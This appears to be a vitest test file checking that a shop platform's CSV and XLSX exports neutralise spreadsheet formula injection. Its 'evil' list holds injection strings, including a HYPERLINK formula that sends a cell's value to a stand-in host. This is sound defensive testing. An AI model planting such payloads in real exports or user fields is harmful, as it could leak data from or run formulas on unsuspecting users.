// Every file of rows that goes out: whatever people called their things, no program takes it for a formula.
import { readFile } from 'node:fs/promises'
import { parse } from 'csv-parse/sync'
import exceljs from 'exceljs'
import { sql } from 'kysely'
import { expect, test } from 'vitest'
import { readTable } from '#features/catalogue-import/server/file/file-read.ts'
import { exportOrders } from '#features/orders/shop-contract.ts'
import { transferKinds, type TransferKind } from '#features/import-export/rules.ts'
import { newTransferFile } from '#features/import-export/server/index.ts'
import { guarded, unguarded } from '#server/files/formula-guard.ts'
import { transferHandlers } from '../src/jobs.ts'
import { testApp } from './app.ts'
import { fill } from './returns.ts'
import { buyer, goods, pay, shop } from './trade.ts'

const { db, app } = await testApp()
const { dataFolder } = app.config

/** Beginnings that one program or another takes for a formula, bare and behind what it skips. */
const evil = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '"=1+1"',
  '\n=1',
  "'=1",
  '＝1',
  ' =1',
  '=HYPERLINK("http://a.example?"&A1,"x"),"y"',
  '=1;=2',
]
const formats = ['csv', 'xlsx'] as const
/** Digits as the formula of their own text: nothing to run, and no number to round. */
const DIGITS_KEPT = /^="[\d.eE+-]+"$/
/** A text that a program would run. */
const runs = (text: string): boolean =>
  /^["\s]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text) && !DIGITS_KEPT.test(text)

/** Writes a kind of file as the clock does. */
async function written(kind: TransferKind, shopId: number, input: object): Promise<string> {
  let made = ''
  const newFile = async (ending: string) => {
    const place = await newTransferFile(dataFolder, ending)
    made = place.path
    return place
  }
  const work = { db, now: new Date(), dataFolder, shopId, locale: 'zh_CN' as const, input: input as never, newFile }
  await transferHandlers[kind]({ ...work, progress: async () => undefined, finishIn: async () => undefined })
  return made
}

/** The raw words of a file of rows, as a program sees them before it decides what they are. */
async function cellsOf(path: string): Promise<string[]> {
  if (path.endsWith('.csv'))
    return (parse(await readFile(path), { bom: true, relax_column_count: true }) as string[][]).flat()
  const book = new exceljs.Workbook()
  await book.xlsx.readFile(path)
  const cells: string[] = []
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect([cell.type, cell.formula]).not.toContain(exceljs.ValueType.Formula)
        if (cell.type === exceljs.ValueType.Number) return
        expect([cell.address, cell.type]).toEqual([cell.address, exceljs.ValueType.String])
        cells.push(String(cell.value))
      }),
    )
  return cells
}

async function poison(table: string, where: ReturnType<typeof sql>, columns: readonly string[], text: string) {
  const sets = columns.map((column) => sql`${sql.ref(column)} = ${text}`)
  await sql`update ${sql.table(table)} set ${sql.join(sets)} where ${where}`.execute(db)
}

/** A shop with a paid order, all of whose words are this one. */
async function everyText(text: string) {
  const [shopId, person] = [await shop(), await buyer()]
  const ware = await goods({ shopId })
  const [orderNumber] = (await person.order(ware)) as [string]
  await pay(orderNumber)
  await fill(person.accountId, 1)
  await poison('shop', sql`id = ${shopId}`, ['name_zh', 'name_en'], `${text} ${shopId}`)
  await poison(
    'product',
    sql`id = ${ware.prodId}`,
    ['name_zh', 'name_en', 'brief_zh', 'brief_en', 'standard', 'model', 'base_model', 'unit_zh', 'unit_en'],
    text,
  )
  await poison(
    'sku',
    sql`id = ${ware.skuId}`,
    ['model', 'article_no', 'unit_zh', 'unit_en', 'piece_zh', 'piece_en'],
    text,
  )
  await poison('sku', sql`id = ${ware.skuId}`, ['part_code'], `${text} ${ware.skuId}`)
  const words = [
    'name_zh',
    'name_en',
    'model',
    'part_code',
    'article_no',
    'properties_zh',
    'properties_en',
    'unit_zh',
    'unit_en',
  ]
  await poison('order_item', sql`product_id = ${ware.prodId}`, words, text)
  await poison('shop_order', sql`order_number = ${orderNumber}`, ['remarks'], text)
  const address = { receiver: text, mobile: text, addr: text, province: text, city: text, area: text }
  await sql`update shop_order set address = address || ${JSON.stringify(address)}::jsonb
    where order_number = ${orderNumber}`.execute(db)
  await poison('account', sql`id = ${person.accountId}`, ['nick_name', 'firm_name'], text)
  return { shopId, ware }
}

const inputs: Record<TransferKind, ((format: (typeof formats)[number]) => object) | undefined> = {
  productsImport: undefined, // comes in
  productsExport: (format) => ({ title: '', format }),
  ordersExport: (format) => ({ ...exportOrders.input.parse({ format }), title: '' }),
  statementExport: () => ({ from: '2026-01-01', to: '2099-12-31', format: 'xlsx' }),
}

test.each(evil)('no cell of any export runs where people wrote %j', { timeout: 60_000 }, async (text) => {
  const { shopId } = await everyText(text)
  let met = 0
  for (const kind of transferKinds)
    for (const format of formats) {
      const path = inputs[kind] && (await written(kind, shopId, inputs[kind](format)))
      if (!path) continue
      const cells = await cellsOf(path)
      met += cells.filter((cell) => cell.includes(text.trim().replace(/^['"]/, ''))).length
      // A cell of a book is a text by its kind; in a CSV only its letters tell.
      expect([kind, path.endsWith('.csv') ? cells.filter(runs) : []]).toEqual([kind, []])
    }
  expect(met).toBeGreaterThan(30)
})

test('texts of a book stay texts when they are edited', async () => {
  const { shopId } = await everyText('=1+1')
  for (const kind of transferKinds) {
    const path = inputs[kind] && (await written(kind, shopId, inputs[kind]('xlsx')))
    if (!path) continue
    const book = new exceljs.Workbook()
    await book.xlsx.readFile(path)
    const kinds = new Set<string>()
    book.worksheets
      .at(-1)!
      .getRow(2)
      .eachCell((cell) => void (cell.type === exceljs.ValueType.String && kinds.add(cell.numFmt)))
    expect([kind, ...kinds]).toEqual([kind, '@'])
  }
})

test('what went out and comes in again is as it was, however often', async () => {
  for (const text of [...evil, 'M8×40', "'quoted'", '-', "''=1"]) expect(unguarded(guarded(text))).toBe(text)
  const { shopId, ware } = await everyText('=1+1')
  const seen: unknown[] = []
  for (const format of [...formats, ...formats]) {
    const rows = await readTable(await written('productsExport', shopId, { format }))
    const [row] = rows
    seen.push([row!['name_zh'], row!['brief_en'], row!['standard'], row!['sku_model']])
    const request = Object.fromEntries(
      ['name_zh', 'name_en', 'brief_zh', 'brief_en', 'standard'].map((name) => [name, row![name]!]),
    )
    await db.updateTable('product').set(request).where('id', '=', ware.prodId).execute() // as the import writes it
  }
  expect(seen).toEqual(seen.map(() => ['=1+1', '=1+1', '=1+1', '=1+1']))
})
